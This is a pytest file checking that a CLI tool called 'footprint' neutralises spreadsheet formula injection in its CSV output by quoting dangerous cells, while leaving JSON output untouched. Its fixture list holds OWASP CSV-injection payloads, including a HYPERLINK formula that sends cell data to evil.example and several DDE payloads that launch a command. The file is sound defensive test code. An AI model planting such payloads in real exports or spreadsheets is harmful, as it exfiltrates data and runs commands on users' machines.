"""Text from the web is inert in every output: CSV a spreadsheet opens, the terminal, HTML."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from footprint.cli import app
from footprint.records import csv_cell
from footprint.store import Store
from tests.page_server import PageServer, Reply, html
from tests.store_support import finding, save_audit

# Cells a spreadsheet would run (OWASP "CSV Injection").
FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def run(*args: str):  # type: ignore[no-untyped-def]
    return CliRunner().invoke(app, list(args))


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _results_file(tmp_path: Path, urls: list[str]) -> Path:
    rows = [
        {"url": url, "title": formula, "snippet": formula, "query": formula}
        for url, formula in zip(urls, FORMULAS, strict=False)
    ]
    path = tmp_path / "results.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    return path


def _assert_inert(text: str) -> None:
    cells = _cells(text)
    assert cells and not [c for c in cells if c.startswith(FORMULA_STARTS)]
    for formula in FORMULAS:  # still there, shown as text (a leading blank may be trimmed)
        assert "'" + formula in cells or "'" + formula.lstrip() in cells


def test_csv_cell_follows_the_owasp_rule() -> None:
    assert [csv_cell(f)[0] for f in FORMULAS] == ["'"] * len(FORMULAS)
    assert csv_cell("Laura Hietanen – sosiaaliohjaaja") == "Laura Hietanen – sosiaaliohjaaja"
    assert csv_cell("") == "" and csv_cell("https://a.example/=x") == "https://a.example/=x"


def test_classify_csv_is_inert_and_json_untouched(tmp_path: Path) -> None:
    urls = [f"https://site{i}.example/p" for i in range(len(FORMULAS))]
    path = _results_file(tmp_path, urls)
    as_csv = run("classify", str(path), "--name", "Laura Hietanen", "--offline", "-f", "csv")
    assert as_csv.exit_code == 0, as_csv.output
    _assert_inert(as_csv.stdout)
    as_json = run("classify", str(path), "--name", "Laura Hietanen", "--offline", "-f", "json")
    titles = [r["title"].strip() for r in json.loads(as_json.stdout)]
    assert titles == [f.strip() for f in FORMULAS]  # as they came, no quote added


@pytest.mark.usefixtures("allow_loopback")
def test_check_csv_is_inert(tmp_path: Path) -> None:
    with PageServer() as server:
        server.route("/p", Reply(body=html(FORMULAS[0], "<p>" + "sana " * 300 + "</p>")))
        path = _results_file(tmp_path, [server.url("/p")])
        out = run("check", str(path), "-f", "csv", "--archive", "none")
    assert out.exit_code == 0, out.output
    rows = list(csv.DictReader(io.StringIO(out.stdout)))
    assert rows[0]["status"] == "live" and rows[0]["page_title"] == "'" + FORMULAS[0]
    assert not [c for c in _cells(out.stdout) if c.startswith(FORMULA_STARTS)]


def test_export_csv_is_inert_and_json_untouched(_isolated_home: Path) -> None:
    with Store.open() as store:
        found = [
            finding(f"https://site{i}.example/p", "work", "live", title=formula)
            for i, formula in enumerate(FORMULAS)
        ]
        save_audit(store, "Laura Hietanen", found)
    as_csv = run("export", "latest", "--format", "csv")
    assert as_csv.exit_code == 0, as_csv.output
    _assert_inert(as_csv.stdout)
    as_json = run("export", "latest", "--format", "json")
    titles = sorted(r["title"].strip() for r in json.loads(as_json.stdout))
    assert titles == sorted(f.strip() for f in FORMULAS)  # as they came, no quote added
